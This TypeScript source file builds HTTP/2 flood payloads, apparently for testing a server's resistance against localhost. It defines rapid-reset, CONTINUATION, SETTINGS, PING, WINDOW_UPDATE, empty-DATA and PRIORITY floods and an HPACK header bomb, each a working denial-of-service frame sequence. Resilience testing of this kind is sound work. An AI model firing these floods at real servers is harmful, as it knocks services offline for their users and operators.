/** HTTP/2 floods: what one connection sends, over and over, as fast as it is taken. */
import { block, END_HEADERS, END_STREAM, FRAME, frame, integer, setting, text, uint32 } from '../../kit/http2-frames.ts'

export interface Flood {
  /** Sent once, after the preface. */
  readonly first: Buffer
  /** Sent again and again; stream numbers rise from call to call. */
  readonly more: (round: number) => Buffer
}

const AUTHORITY = 'localhost'
const FRAMES = 400

const head = (method: string, path: string, more: readonly (readonly [string, string])[] = []): Buffer =>
  block([[':method', method], [':scheme', 'https'], [':path', path], [':authority', AUTHORITY], ...more])
const GET = head('GET', '/')
const POST = head('POST', '/upload')
const NOTHING = Buffer.alloc(0)

/** As many frames as go into one write. */
function many(make: (i: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: FRAMES }, (_, i) => make(i)))
}
/** Client streams are odd and only rise. */
const streamOf = (round: number, i: number): number => (round * FRAMES + i) * 2 + 1
const always =
  (bytes: Buffer): (() => Buffer) =>
  () =>
    bytes

/** Puts 3900 bytes into the dynamic table: each byte of index 62 after that names them again. */
function bomb(): Buffer {
  const entry = Buffer.concat([Buffer.from([0x40]), text('x-bomb'), text('b'.repeat(3900))])
  return Buffer.concat([GET, entry, Buffer.alloc(4000, integer(62, 7, 0x80))])
}
const BOMB = bomb()

export const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid reset': {
    first: NOTHING,
    more: (round) =>
      many((i) => {
        const stream = streamOf(round, i)
        const open = frame(FRAME.headers, END_HEADERS | END_STREAM, stream, GET)
        return Buffer.concat([open, frame(FRAME.reset, 0, stream, uint32(8))])
      }),
  },
  CONTINUATION: {
    first: frame(FRAME.headers, 0, 1, GET),
    more: always(many(() => frame(FRAME.continuation, 0, 1, block([['x-a', 'b']])))),
  },
  SETTINGS: { first: NOTHING, more: always(many(() => frame(FRAME.settings, 0, 0, setting(4, 65_535)))) },
  PING: { first: NOTHING, more: always(many(() => frame(FRAME.ping, 0, 0, '12345678'))) },
  WINDOW_UPDATE: { first: NOTHING, more: always(many(() => frame(FRAME.windowUpdate, 0, 0, uint32(1)))) },
  'empty DATA': {
    first: frame(FRAME.headers, END_HEADERS, 1, POST),
    more: always(many(() => frame(FRAME.data, 0, 1))),
  },
  PRIORITY: {
    first: NOTHING,
    more: (round) =>
      many((i) => frame(FRAME.priority, 0, streamOf(round, i), Buffer.concat([uint32(0), Buffer.from([9])]))),
  },
  'header bomb': {
    first: NOTHING,
    more: (round) =>
      Buffer.concat(
        Array.from({ length: 8 }, (_, i) =>
          frame(FRAME.headers, END_HEADERS | END_STREAM, (round * 8 + i) * 2 + 1, BOMB),
        ),
      ),
  },
}
